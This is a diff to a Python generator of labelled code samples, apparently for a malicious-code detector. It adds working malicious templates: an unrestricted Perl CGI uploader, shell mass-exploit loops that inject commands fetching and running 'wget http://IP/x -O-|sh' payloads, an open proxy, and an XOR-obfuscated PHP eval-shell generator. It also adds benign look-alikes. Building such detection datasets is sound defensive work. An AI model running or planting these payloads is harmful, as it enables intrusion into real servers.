@@ -559,6 +559,88 @@ def t_hidden_socks(r):
             "    threading.Thread(target=serve, args=(srv.accept()[0],), daemon=True).start()\n") % v, ""
 
 
+# round 7, third pass: techniques named by the corpus's "other" files that no
+# unseen rule finds (only their file names were read: a Perl CGI uploader, a
+# shell mass exploit over a target list, a Python proxy, an obfuscated-PHP
+# generator)
+
+
+def t_perl_cgi_upload(r):
+    """A Perl CGI uploader: the file from the form written where the form says."""
+    body = r.choice([
+        "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header;\n"
+        "if (my $fh = $q->upload('f')) {\n  my $dir = $q->param('d') || '.';\n  my $name = $q->param('f');\n"
+        "  open(OUT, '>', \"$dir/$name\") or die $!;\n  binmode OUT;\n  while (read($fh, my $b, 4096)) { print OUT $b }\n  close OUT;\n"
+        "  print \"ok $dir/$name\";\n}\nprint '<form method=post enctype=multipart/form-data><input type=file name=f>"
+        "<input name=d value=\"' . ($ENV{DOCUMENT_ROOT} || '.') . '\"><input type=submit></form>';\n",
+        "#!/usr/bin/perl\nuse CGI qw(:standard);\nprint header();\nmy $to = param('path');\nmy $up = upload('file');\n"
+        "if ($up) {\n  open my $o, '>', $to or die;\n  binmode $o;\n  print $o $_ while <$up>;\n  close $o;\n  chmod 0755, $to if param('x');\n"
+        "  print \"<b>saved</b> $to\";\n}\nprint start_form(-enctype => 'multipart/form-data'), filefield('file'), textfield('path'), submit, end_form;\n",
+    ])
+    return body, r.choice(["pl", "cgi"])
+
+
+def t_sh_mass_exploit(r):
+    """A shell mass exploit: every host of a list gets a POST whose data is PHP
+    code or a command injection; the answer checked and the hits kept."""
+    v = {"h": ip(r), "c": cm(r, "#", 6)}
+    body = r.choice([
+        "#!/bin/bash\n%(c)sPAY='<?php system(\"wget http://%(h)s/s.txt -O /tmp/s.php\"); ?>'\n"
+        "while read -r host; do\n  for p in /phpmyadmin /pma /phpMyAdmin; do\n"
+        "    r=$(curl -s -m 8 -d \"token=1&code=$PAY\" \"http://$host$p/scripts/setup.php\")\n"
+        "    echo \"$r\" | grep -q uid= && echo \"$host$p\" >> vuln.txt\n  done\ndone < \"${1:-ips.txt}\"\n",
+        "#!/bin/sh\n%(c)sfor t in $(cat targets.txt); do\n"
+        "  curl -sk -X POST \"https://$t/cgi-bin/admin.cgi\" --data 'cmd=;wget%%20http://%(h)s/x%%20-O-|sh' -o /dev/null &\ndone\nwait\n",
+    ])
+    return body % v, "sh"
+
+
+def t_py_http_proxy(r):
+    """A Python HTTP(S) forward proxy: CONNECT answered, both ways relayed."""
+    v = {"p": r.choice([8080, 3128, 8888])}
+    return ("import socket, threading, select\n\ndef tunnel(a, b):\n    while True:\n"
+            "        r, _, _ = select.select([a, b], [], [], 30)\n        if not r:\n            break\n        for s in r:\n"
+            "            d = s.recv(8192)\n            if not d:\n                return\n            (b if s is a else a).sendall(d)\n\n"
+            "def client(c):\n    head = c.recv(8192)\n    line = head.split(b'\\r\\n')[0].decode()\n    method, target, _ = line.split(' ')\n"
+            "    if method == 'CONNECT':\n        host, port = target.split(':')\n        up = socket.create_connection((host, int(port)))\n"
+            "        c.sendall(b'HTTP/1.1 200 Connection established\\r\\n\\r\\n')\n    else:\n"
+            "        host = target.split('/')[2]\n        up = socket.create_connection((host, 80))\n        up.sendall(head)\n    tunnel(c, up)\n\n"
+            "srv = socket.socket()\nsrv.bind(('0.0.0.0', %(p)d))\nsrv.listen(100)\nwhile True:\n"
+            "    threading.Thread(target=client, args=(srv.accept()[0],)).start()\n") % v, "py"
+
+
+def t_php_obf_generator(r):
+    """A Python tool writing an XOR-obfuscated PHP shell: the payload XORed with
+    a key and wrapped in a decoder that evals it."""
+    v = {"k": r.choice(["k3y", "x", "s3cr3t"])}
+    return ("#!/usr/bin/env python3\n# usage: gen.py 'system($_GET[c]);' > out.php\nimport sys, base64, random, string\n\n"
+            "key = '%(k)s'\ncode = sys.argv[1]\nx = ''.join(chr(ord(c) ^ ord(key[i %% len(key)])) for i, c in enumerate(code))\n"
+            "b = base64.b64encode(x.encode('latin-1')).decode()\nv = ''.join(random.choice(string.ascii_letters) for _ in range(6))\n"
+            "print('<?php $%%s = base64_decode(\"%%s\"); $o = \"\"; for ($i = 0; $i < strlen($%%s); $i++) '\n"
+            "      '$o .= $%%s[$i] ^ \"%(k)s\"[$i %%%% %%d]; eval($o); ?>' %% (v, b, v, v, len(key)))\n") % v, "py"
+
+
+def b_perl_cgi_upload_ok(r):
+    """A guestbook's photo upload: fixed directory, cleaned name, size cap."""
+    return ("#!/usr/bin/perl -T\nuse strict; use CGI;\n$CGI::POST_MAX = 2_000_000;\nmy $q = CGI->new;\nprint $q->header;\n"
+            "my $name = $q->param('photo') // '';\n($name) = $name =~ /^([\\w.-]{1,60}\\.(?:jpe?g|png))$/i or do { print 'bad name'; exit };\n"
+            "my $fh = $q->upload('photo') or exit;\nopen(my $o, '>', \"/srv/guestbook/photos/$name\") or die;\nbinmode $o;\n"
+            "print $o $_ while <$fh>;\nclose $o;\nprint 'thanks';\n"), "cgi"
+
+
+def b_sh_health_sweep(r):
+    """A health sweep over the site list: GET each one, log the status."""
+    return ("#!/bin/sh\n# check every site we host\nwhile read -r host; do\n"
+            "  code=$(curl -s -o /dev/null -w '%{http_code}' -m 10 \"https://$host/\")\n  echo \"$(date +%F) $host $code\" >> /var/log/sites.log\n"
+            "done < /etc/hosting/sites.txt\n"), "sh"
+
+
+def b_php_minifier_py(r):
+    """A build step that writes a PHP config file from a template."""
+    return ("#!/usr/bin/env python3\n\"\"\"Write config.php for the deploy target.\"\"\"\nimport json, sys\n\n"
+            "cfg = json.load(open(sys.argv[1]))\nwith open('config.php', 'w') as f:\n    f.write('<?php\\nreturn ' + repr(cfg).replace(':', ' =>') + ';\\n')\n"), "py"
+
+
 # ---------------------------------------------------------------------------
 # look-alikes
 
@@ -797,6 +879,10 @@ TEMPLATES = [
     ("smtp_helper_loop", t_smtp_helper_loop, "malicious", "high"),
     ("http_flood_py", t_http_flood_py, "malicious", "high"),
     ("hidden_socks", t_hidden_socks, "malicious", "high"),
+    ("perl_cgi_upload", t_perl_cgi_upload, "malicious", "high"),
+    ("sh_mass_exploit", t_sh_mass_exploit, "malicious", "high"),
+    ("py_http_proxy", t_py_http_proxy, "malicious", "any"),
+    ("php_obf_generator", t_php_obf_generator, "malicious", "any"),
     ("quota_report", b_quota_report, "benign", "none"),
     ("smtp_monitor", b_smtp_monitor, "benign", "none"),
     ("smtp_check_perl", b_smtp_check_perl, "benign", "none"),
@@ -811,6 +897,9 @@ TEMPLATES = [
     ("backup_cron", b_backup_cron, "benign", "none"),
     ("socks_dev", b_socks_dev, "benign", "none"),
     ("sms_2fa", b_sms_2fa, "benign", "none"),
+    ("perl_cgi_upload_ok", b_perl_cgi_upload_ok, "benign", "none"),
+    ("sh_health_sweep", b_sh_health_sweep, "benign", "none"),
+    ("php_config_writer", b_php_minifier_py, "benign", "none"),
     ("notify_helper", b_notify_helper, "benign", "none"),
     ("load_test_py", b_load_test_py, "benign", "none"),
     # a SOCKS test server is a SOCKS server: bot_socks_proxy_script (medium) names it
